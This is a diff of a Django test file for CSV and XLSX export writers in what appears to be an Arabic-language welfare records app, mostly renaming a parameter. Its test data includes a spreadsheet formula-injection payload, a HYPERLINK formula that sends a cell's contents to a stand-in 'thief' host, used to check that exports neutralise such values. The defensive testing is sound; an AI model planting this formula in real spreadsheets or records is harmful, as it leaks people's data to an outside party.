@@ -33,6 +33,7 @@ pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("http://thief.example/?q="&A1,"اضغط")'
 RISKY = [f"{sign}1+1" for sign in "=+-@\t\r\n＝＋－＠"]
+ODD = ["<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"]
 REASON = "مراجعة الضمان الاجتماعي"
 
 
@@ -74,9 +75,9 @@ def table(user: Any, query: str = "list=people", **fields: Any) -> list[list[Any
     return [[cell.value for cell in row] for row in sheet.iter_rows()]
 
 
-def written(tmp_path: Path, format: str, values: list[str], **options: Any) -> Path:
-    path = tmp_path / f"list.{format}"
-    file = writers.WRITERS[format](path, [Head("الاسم"), Head("العدد", Kind.NUMBER)], **options)
+def written(tmp_path: Path, kind: str, values: list[str], **options: Any) -> Path:
+    path = tmp_path / f"list.{kind}"
+    file = writers.WRITERS[kind](path, [Head("الاسم"), Head("العدد", Kind.NUMBER)], **options)
     file.write([values, list(range(len(values)))])
     file.close()
     return path
@@ -88,7 +89,9 @@ def test_text_that_begins_a_formula_is_led_by_an_apostrophe_in_csv(tmp_path, val
         assert list(csv.reader(file)) == [["الاسم", "العدد"], [f"'{value}", "0"]]
 
 
-@pytest.mark.parametrize("value", [*RISKY, FORMULA, "<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"])
+@pytest.mark.parametrize(
+    "value", [*RISKY, FORMULA, "<r><t>x</t></r>", "a<b>&\"'", "_x0041_", "\x01\x1f", " x ", "ab\r\nc"]
+)
 def test_text_stays_text_in_a_workbook_whatever_it_looks_like(tmp_path, value):
     cell = openpyxl.load_workbook(written(tmp_path, "xlsx", [value])).active["A2"]
     found = re.sub(r"_x([0-9A-F]{4})_", lambda code: chr(int(code[1], 16)), str(cell.value))
@@ -117,12 +120,12 @@ def test_an_empty_list_is_a_file_with_its_heading(head):
     assert [row[0] for row in table(head)] == ["المستفيد"]
 
 
-@pytest.mark.parametrize("format", ["csv", "xlsx"])
-def test_a_name_planted_as_a_formula_is_text_in_the_file(head, format):
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_a_name_planted_as_a_formula_is_text_in_the_file(head, kind):
     # no page takes such a name; a table that was loaded by other means may hold it
     Beneficiary.objects.filter(pk=make.make_person().pk).update(first_name=FORMULA)
-    name = table(head, format=format)[1][0]
-    assert name.startswith(f"'{FORMULA}" if format == "csv" else FORMULA)
+    name = table(head, format=kind)[1][0]
+    assert name.startswith(f"'{FORMULA}" if kind == "csv" else FORMULA)
 
 
 def test_headings_and_words_are_arabic_and_dates_stand_in_both_calendars(head):
@@ -202,8 +205,8 @@ def test_every_list_is_written_in_both_formats_with_each_filter(key, tmp_path):
     for only in ("", *listing.filters):
         columns = listing.columns(True)
         heads = [head for column in columns for head in column.heads]
-        for format, writer in writers.WRITERS.items():
-            file = writer(tmp_path / format, heads)
+        for kind, writer in writers.WRITERS.items():
+            file = writer(tmp_path / kind, heads)
             for batch in carrying.batches(user, listing, only, columns):
                 assert len(batch) == len(heads)
                 file.write(batch)
